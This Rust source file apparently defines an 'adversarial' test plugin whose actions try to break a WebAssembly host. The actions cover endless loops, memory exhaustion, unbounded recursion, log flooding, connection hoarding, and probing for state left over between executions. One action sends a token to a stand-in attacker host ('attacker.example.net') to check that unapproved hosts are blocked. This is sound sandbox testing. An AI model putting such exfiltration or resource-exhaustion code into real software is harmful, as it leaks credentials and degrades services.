//! Misbehaving actions: each must be contained by the host with the right
//! typed error, and the host must keep serving.

use std::hint::black_box;
use std::sync::atomic::{AtomicU64, Ordering};

use workway_sdk::prelude::*;

/// No input.
#[derive(Deserialize, JsonSchema)]
pub struct Nothing {}

/// No output.
#[derive(Serialize, JsonSchema)]
pub struct Never {}

/// Loop forever without calling the host.
#[action]
fn spin(_input: Nothing) -> Result<Never> {
    let mut x: u64 = 0;
    loop {
        x = black_box(x.wrapping_add(1));
    }
}

/// Sleep for a minute (blocks in a WASI host call).
#[action]
fn sleep(_input: Nothing) -> Result<Never> {
    std::thread::sleep(std::time::Duration::from_secs(60));
    Ok(Never {})
}

/// Call an upstream that answers slowly (blocks in the `http` host call).
#[action]
fn slow_upstream(_input: Nothing) -> Result<Never> {
    http::get("https://slow.example.com/").send()?;
    Ok(Never {})
}

/// Call a host that is not approved.
#[action]
fn exfiltrate(_input: Nothing) -> Result<Never> {
    http::get("https://attacker.example.net/steal?token=x").send()?;
    Ok(Never {})
}

/// Allocate until something gives.
#[action]
fn grow_memory(_input: Nothing) -> Result<Never> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(black_box(vec![1u8; 1 << 20]));
    }
}

fn recurse(depth: u64) -> u64 {
    if black_box(depth) == u64::MAX {
        return 0;
    }
    black_box(recurse(depth + 1)).wrapping_add(1)
}

/// Recurse without bound.
#[action]
fn recurse_forever(_input: Nothing) -> Result<Never> {
    black_box(recurse(0));
    Ok(Never {})
}

/// Panic.
#[action]
fn panic(_input: Nothing) -> Result<Never> {
    panic!("the plugin gave up");
}

/// A huge blob.
#[derive(Serialize, JsonSchema)]
pub struct Blob {
    /// Many bytes.
    pub data: String,
}

/// Return 8 MiB of output.
#[action]
fn huge_output(_input: Nothing) -> Result<Blob> {
    Ok(Blob {
        data: "x".repeat(8 << 20),
    })
}

/// Write far more log lines than the host keeps, through the log import
/// and through stdout and stderr.
#[action]
fn flood_logs(_input: Nothing) -> Result<Never> {
    let line = "flood ".repeat(20);
    for i in 0..20_000 {
        log::info(format!("{i} {line}"));
        println!("{i} {line}");
        eprintln!("{i} {line}");
    }
    Ok(Never {})
}

/// How `empty-log-lines` writes its empty lines.
#[derive(Deserialize, JsonSchema)]
pub struct EmptyLines {
    /// `log` (the log import), `println` (`println!()`) or `newlines`
    /// (64 KiB of `\n` per write to stdout).
    pub via: String,
}

/// Write empty log lines forever: each costs the guest almost nothing.
#[action]
fn empty_log_lines(input: EmptyLines) -> Result<Never> {
    let newlines = "\n".repeat(64 << 10);
    let mut stdout = std::io::stdout();
    loop {
        match input.via.as_str() {
            "log" => log::info(""),
            "println" => println!(),
            _ => {
                let _ = std::io::Write::write_all(&mut stdout, newlines.as_bytes());
            }
        }
    }
}

/// Which typed error `huge-error` returns.
#[derive(Deserialize, JsonSchema)]
pub struct HugeError {
    /// `invalid-input`, `upstream` or `internal`.
    pub kind: String,
}

/// Fail with a 50 MiB message.
#[action]
fn huge_error(input: HugeError) -> Result<Never> {
    let message = "e".repeat(50 << 20);
    Err(match input.kind.as_str() {
        "invalid-input" => Error::InvalidInput(message),
        "upstream" => Error::Upstream {
            status: 502,
            message,
        },
        _ => Error::Internal(message),
    })
}

/// Which host call `call-host-forever` repeats.
#[derive(Deserialize, JsonSchema)]
pub struct HostLoop {
    /// `config` (`config.get`) or `log` (the log import).
    pub call: String,
}

/// Call the host in a loop that burns almost no guest fuel per call.
#[action]
fn call_host_forever(ctx: &Context, input: HostLoop) -> Result<Never> {
    loop {
        match input.call.as_str() {
            "config" => {
                black_box(ctx.config("key"));
            }
            _ => log::info("x"),
        }
    }
}

/// Take connection handles without ever dropping one.
#[action]
fn hoard_connections(ctx: &Context, _input: Nothing) -> Result<Never> {
    let mut held = Vec::new();
    loop {
        held.push(ctx.connection("hoard")?);
        black_box(&held);
    }
}

/// Tell the host it started (one request to `https://busy.test/started`),
/// then loop without calling the host again.
#[action]
fn request_then_spin(_input: Nothing) -> Result<Never> {
    http::get("https://busy.test/started").send()?;
    let mut x: u64 = 0;
    loop {
        x = black_box(x.wrapping_add(1));
    }
}

/// What the clock said.
#[derive(Serialize, JsonSchema)]
pub struct Clock {
    /// Seconds since the Unix epoch.
    pub unix_seconds: u64,
}

/// Read the wall clock: fine with WASI, a panic in a lean component.
#[action]
fn read_clock(_input: Nothing) -> Result<Clock> {
    let now = std::time::SystemTime::now();
    let unix_seconds = now
        .duration_since(std::time::UNIX_EPOCH)
        .map_err(|e| Error::internal(e.to_string()))?
        .as_secs();
    Ok(Clock { unix_seconds })
}

static COUNTER: AtomicU64 = AtomicU64::new(0);
static mut SCRATCH: [u8; 64] = [0; 64];

/// What a previous execution left behind.
#[derive(Serialize, JsonSchema)]
pub struct Leftovers {
    /// The counter after this execution's increment: 1 if nothing survived.
    pub counter: u64,
    /// Whether scratch memory still held the previous execution's marker.
    pub saw_marker: bool,
    /// Whether freshly grown linear memory held the previous execution's
    /// marker (it must read as zeros).
    pub saw_grown_marker: bool,
}

/// Increment a global counter and leave a marker in static memory, then
/// report what the previous execution left behind.
#[action]
fn leftovers(_input: Nothing) -> Result<Leftovers> {
    let counter = COUNTER.fetch_add(1, Ordering::SeqCst) + 1;
    #[allow(unsafe_code)]
    let saw_marker = unsafe {
        let scratch = &mut *std::ptr::addr_of_mut!(SCRATCH);
        let seen = scratch[0] == 0xAB;
        scratch[0] = 0xAB;
        seen
    };
    // Grow memory by 16 pages and look at the first new page: the previous
    // execution wrote a marker at the same address.
    let old_pages = core::arch::wasm32::memory_grow(0, 16);
    if old_pages == usize::MAX {
        return Err(Error::internal("memory.grow failed"));
    }
    #[allow(unsafe_code)]
    let saw_grown_marker = unsafe {
        let page = (old_pages * 65_536) as *mut u8;
        let seen = page.read_volatile() == 0xCD;
        page.write_volatile(0xCD);
        seen
    };
    Ok(Leftovers {
        counter,
        saw_marker,
        saw_grown_marker,
    })
}

/// Call `exit(3)` from inside an action (WASI 0.2 reports it as a failed exit).
#[action]
fn exit(_input: Nothing) -> Result<Never> {
    std::process::exit(3);
}

workway_sdk::integration! {
    name: "adversarial",
    actions: [spin, sleep, slow_upstream, exfiltrate, grow_memory, recurse_forever, panic, huge_output, flood_logs, leftovers, exit, empty_log_lines, huge_error, call_host_forever, hoard_connections, request_then_spin, read_clock],
}
